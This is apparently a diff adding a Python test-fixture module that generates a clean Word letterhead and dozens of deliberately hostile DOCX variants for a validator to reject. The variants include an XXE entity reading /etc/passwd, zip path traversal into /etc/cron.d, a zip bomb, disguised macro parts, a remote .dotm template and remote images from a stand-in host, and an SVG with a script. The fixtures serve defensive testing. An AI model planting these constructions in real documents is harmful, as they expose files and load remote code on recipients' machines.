@@ -1,0 +1,296 @@
+"""Letterheads as centres make them in Word, and as somebody hostile would."""
+
+import io
+import zipfile
+from collections.abc import Callable
+from functools import cache
+from typing import Any
+
+from docx import Document
+from docx.opc.constants import RELATIONSHIP_TYPE
+from docx.oxml import parse_xml
+from docx.oxml.ns import nsdecls, qn
+from docx.shared import Mm, Pt, RGBColor
+from PIL import Image, ImageDraw
+
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+@cache
+def good(name: str = "UIMM Exemple, en-tête maison") -> bytes:
+    """A letterhead made in Word: a header with its own picture, a footer, sample text in its body."""
+    document = Document()
+    section = document.sections[0]
+    section.page_width, section.page_height = Mm(210), Mm(297)
+    section.left_margin = section.right_margin = Mm(22)
+    section.top_margin, section.bottom_margin = Mm(32), Mm(22)
+    line = section.header.paragraphs[0]
+    line.add_run().add_picture(io.BytesIO(picture(300, 120)), height=Mm(11))
+    run = line.add_run(f"   {name}")
+    run.bold, run.font.size, run.font.color.rgb = True, Pt(15), RGBColor(0x8A, 0x1C, 0x1C)
+    section.footer.paragraphs[0].text = "12, rue de l’Exemple, 59000 Lille · SIRET fictif 000 000 000 00000"
+    document.add_paragraph("Tapez votre texte ici")
+    return saved(document)
+
+
+def picture(width: int, height: int, kind: str = "PNG", **options: Any) -> bytes:
+    """A logo: two shapes on a clear ground."""
+    image = Image.new("RGB", (width, height), (245, 240, 230))
+    drawing = ImageDraw.Draw(image)
+    side = max(min(width, height) - 4, 1)
+    drawing.ellipse((2, 2, 2 + side, 2 + side), fill=(138, 28, 28))
+    drawing.rectangle(
+        (min(width - 1, side + 8), height // 3, width - 1, max(height // 3, 2 * height // 3)), fill=(31, 78, 121)
+    )
+    written = io.BytesIO()
+    image.save(written, kind, **options)
+    return written.getvalue()
+
+
+def saved(document: Any) -> bytes:
+    """The bytes of a document."""
+    written = io.BytesIO()
+    document.save(written)
+    return written.getvalue()
+
+
+def rewritten(package: bytes, change: Callable[[str, bytes], bytes | None], **added: bytes) -> bytes:
+    """The package with each part passed through `change`; None drops the part."""
+    written = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(package)) as source, zipfile.ZipFile(written, "w") as target:
+        for name in source.namelist():
+            data = change(name, source.read(name))
+            if data is not None:
+                target.writestr(name, data)
+        for name, data in added.items():
+            target.writestr(name, data)
+    return written.getvalue()
+
+
+def _with(change: Callable[[Any], None]) -> bytes:
+    document = Document(io.BytesIO(good()))
+    change(document)
+    return saved(document)
+
+
+def _header(xml: str) -> Callable[[Any], None]:
+    """Puts elements into the header's first paragraph."""
+
+    def change(document: Any) -> None:
+        element = parse_xml(f'<w:p {nsdecls("w", "r", "a", "wp")} xmlns:v="urn:schemas-microsoft-com:vml">{xml}</w:p>')
+        document.sections[0].header.paragraphs[0]._p.extend(list(element))
+
+    return change
+
+
+def _field(*pieces: str) -> Callable[[Any], None]:
+    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
+    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
+    return _header(char("begin") + runs + char("separate") + "<w:r><w:t>x</w:t></w:r>" + char("end"))
+
+
+def _external(kind: str, target: str, of: str = "header") -> Callable[[Any], None]:
+    def change(document: Any) -> None:
+        part = document.sections[0].header.part if of == "header" else document.part
+        part.relate_to(target, kind if "://" in kind else f"{OFFICE}/{kind}", is_external=True)
+
+    return change
+
+
+def _template(target: str) -> Callable[[Any], None]:
+    def change(document: Any) -> None:
+        settings = document.part.part_related_by(RELATIONSHIP_TYPE.SETTINGS)
+        key = settings.relate_to(target, f"{OFFICE}/attachedTemplate", is_external=True)
+        document.settings.element.insert(0, parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{key}"/>'))
+
+    return change
+
+
+def _linked_blip(document: Any) -> None:
+    """A picture whose link goes through the relation of a hyperlink, which alone is welcome."""
+    part = document.sections[0].header.part
+    key = part.relate_to("https://pistage.example/logo.png", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
+    next(part.element.iter(qn("a:blip"))).set(qn("r:link"), key)
+
+
+def _style(inner: str, identifier: str = "CourrierCorps", paragraph: str = "") -> Callable[[Any], None]:
+    def change(document: Any) -> None:
+        document.styles.element.append(
+            parse_xml(
+                f'<w:style {nsdecls("w")} w:type="paragraph" w:customStyle="1" w:styleId="{identifier}">'
+                f'<w:name w:val="Corps de lettre"/>{paragraph}<w:rPr>{inner}</w:rPr></w:style>'
+            )
+        )
+
+    return change
+
+
+def _sideways(document: Any) -> None:
+    section = document.sections[0]
+    section.page_width, section.page_height = section.page_height, section.page_width
+
+
+def _narrow(document: Any) -> None:
+    document.sections[0].left_margin = Mm(120)
+
+
+def _swollen(package: bytes) -> bytes:
+    written = io.BytesIO(package)
+    with zipfile.ZipFile(written, "a", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("word/media/bomb.bin", b"\0" * (51 * 1024 * 1024))
+    return written.getvalue()
+
+
+def _twice(package: bytes) -> bytes:
+    written = io.BytesIO(package)
+    with zipfile.ZipFile(written, "a") as archive:
+        archive.writestr("word/Document.xml", b"<d/>")
+    return written.getvalue()
+
+
+def _doctype(package: bytes, encoding: str = "utf-8") -> bytes:
+    nested = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><d>&a;</d>'
+    return rewritten(package, lambda name, data: nested.encode(encoding) if name == "word/settings.xml" else data)
+
+
+def _hidden_encoding(package: bytes) -> bytes:
+    odd = b'<?xml version="1.0" encoding="UTF-7"?><d/>'
+    return rewritten(package, lambda name, data: odd if name == "word/settings.xml" else data)
+
+
+def _disguised_macro(package: bytes) -> bytes:
+    """A program under an innocent name, told by its relation alone."""
+    relation = b'<Relationship Id="rId900" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="notes.xml"/></Relationships>'
+    override = b'<Override PartName="/word/notes.xml" ContentType="application/xml"/></Types>'
+
+    def change(name: str, data: bytes) -> bytes:
+        if name == "word/_rels/document.xml.rels":
+            return data.replace(b"</Relationships>", relation)
+        return data.replace(b"</Types>", override) if name == "[Content_Types].xml" else data
+
+    return rewritten(package, change, **{"word/notes.xml": b"<d/>"})
+
+
+def _svg(text: str) -> bytes:
+    def change(name: str, data: bytes) -> bytes:
+        if name == "word/_rels/header1.xml.rels":
+            return data.replace(b"media/image1.png", b"media/logo.svg")
+        if name == "[Content_Types].xml":
+            return data.replace(
+                b"</Types>", b'<Override PartName="/word/media/logo.svg" ContentType="image/svg+xml"/></Types>'
+            )
+        return data
+
+    return rewritten(good(), change, **{"word/media/logo.svg": text.encode()})
+
+
+HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
+    "a macro": (lambda: rewritten(good(), lambda _, data: data, **{"word/vbaProject.bin": b"code"}), "macros"),
+    "a macro under another name": (lambda: _disguised_macro(good()), "macros"),
+    "a document with macros": (
+        lambda: rewritten(
+            good(),
+            lambda _, data: data.replace(b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"),
+        ),
+        "macros",
+    ),
+    "an embedded object": (
+        lambda: rewritten(good(), lambda _, data: data, **{"word/embeddings/a.bin": b"x"}),
+        "macros",
+    ),
+    "another document within": (lambda: _with(_external("aFChunk", "a.html", "document")), "macros"),
+    "a control": (lambda: _with(_header("<w:r><w:object/></w:r>")), "macros"),
+    "a ribbon with a program": (
+        lambda: rewritten(good(), lambda _, data: data, **{"customUI/customUI.xml": b"<customUI/>"}),
+        "macros",
+    ),
+    "a picture from elsewhere": (lambda: _with(_external("image", "https://pistage.example/logo.png")), "ailleurs"),
+    "a picture by the relation of a link": (lambda: _with(_linked_blip), "ailleurs"),
+    "a picture of former days from elsewhere": (
+        lambda: _with(_header('<w:r><w:pict><v:imagedata src="https://pistage.example/logo.png"/></w:pict></w:r>')),
+        "ailleurs",
+    ),
+    "a data source": (lambda: _with(_external("mailMergeSource", "file:///C:/base.mdb", "document")), "ailleurs"),
+    "a remote template": (lambda: _with(_template("https://pistage.example/modele.dotm")), "modèle distant"),
+    "a template on a share": (lambda: _with(_template("\\\\pistage.example\\modeles\\modele.dotm")), "modèle distant"),
+    "a link to a program": (lambda: _with(_external("hyperlink", "file:///C:/Windows/calc.exe")), "page Web"),
+    "a field that includes": (
+        lambda: _with(_field(" INCLUDE", 'PICTURE "https://pistage.example/a.png"')),
+        "INCLUDEPICTURE",
+    ),
+    "a field that asks a database": (lambda: _with(_field(" DATABASE \\d base.mdb ")), "DATABASE"),
+    "a field that runs": (lambda: _with(_field(" MACROBUTTON Lancer ici ")), "MACROBUTTON"),
+    "a field that dates the letter anew": (lambda: _with(_field(" DATE ")), "DATE"),
+    "a field whose name is computed": (lambda: _with(_field("  ")), "calculé"),
+    "an SVG with a program": (
+        lambda: _svg('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+        "SVG",
+    ),
+    "an SVG from elsewhere": (
+        lambda: _svg('<svg xmlns="http://www.w3.org/2000/svg"><image href="https://pistage.example/a.png"/></svg>'),
+        "SVG",
+    ),
+    "a path outside": (
+        lambda: rewritten(good(), lambda _, data: data, **{"../../etc/cron.d/a": b"x"}),
+        "hors du fichier",
+    ),
+    "a path from the root": (
+        lambda: rewritten(good(), lambda _, data: data, **{"/etc/cron.d/a": b"x"}),
+        "hors du fichier",
+    ),
+    "a path of a disk": (
+        lambda: rewritten(good(), lambda _, data: data, **{"C:\\Windows\\a": b"x"}),
+        "hors du fichier",
+    ),
+    "a part twice": (lambda: _twice(good()), "deux fois"),
+    "a bomb": (lambda: _swollen(good()), "volumineux"),
+    "a crowd": (
+        lambda: rewritten(good(), lambda _, data: data, **{f"word/media/{n}.bin": b"" for n in range(501)}),
+        "volumineux",
+    ),
+    "entities": (lambda: _doctype(good()), "DOCTYPE"),
+    "entities in wide characters": (lambda: _doctype(good(), "utf-16"), "DOCTYPE"),
+    "an encoding to hide in": (lambda: _hidden_encoding(good()), "DOCTYPE"),
+    "hidden text": (lambda: _with(_style("<w:vanish/>")), "cache le texte"),
+    "white text": (lambda: _with(_style('<w:color w:val="FFFFFF"/>')), "couleur de son fond"),
+    "white text of the theme": (
+        lambda: _with(_style('<w:color w:val="000000" w:themeColor="background1"/>')),
+        "couleur de son fond",
+    ),
+    "text too small": (lambda: _with(_style('<w:sz w:val="2"/>')), "trop petit"),
+    "struck out text": (lambda: _with(_style("<w:strike/>")), "barre le texte"),
+    "text in symbols": (lambda: _with(_style('<w:rFonts w:ascii="Wingdings" w:hAnsi="Wingdings"/>')), "symboles"),
+    "cut lines": (
+        lambda: _with(_style("", paragraph='<w:pPr><w:spacing w:line="20" w:lineRule="exact"/></w:pPr>')),
+        "coupe les lignes",
+    ),
+    "text off the page": (
+        lambda: _with(_style("", paragraph='<w:pPr><w:ind w:left="20000"/></w:pPr>')),
+        "hors de la page",
+    ),
+    "text in a frame": (
+        lambda: _with(_style("", paragraph='<w:pPr><w:framePr w:x="30000" w:y="30000"/></w:pPr>')),
+        "cadre",
+    ),
+    "a way around through another style": (
+        lambda: _with(
+            lambda document: (
+                _style("<w:vanish/>", "Cache")(document),
+                _style("", paragraph='<w:basedOn w:val="Cache"/>')(document),
+            )
+        ),
+        "cache le texte",
+    ),
+    "a sheet on its side": (lambda: _with(_sideways), "A4 debout"),
+    "margins that leave nothing": (lambda: _with(_narrow), "marges"),
+    "a template of Word": (
+        lambda: rewritten(good(), lambda _, data: data.replace(b"document.main+xml", b"template.main+xml")),
+        ".dotx",
+    ),
+    "half a file": (lambda: good()[: len(good()) // 2], "n’est pas un document Word"),
+    "damage": (
+        lambda: rewritten(good(), lambda name, data: b"<w:document" if name == "word/document.xml" else data),
+        "lisible",
+    ),
+}
+"""Letterheads that are refused, each with words of its reason."""
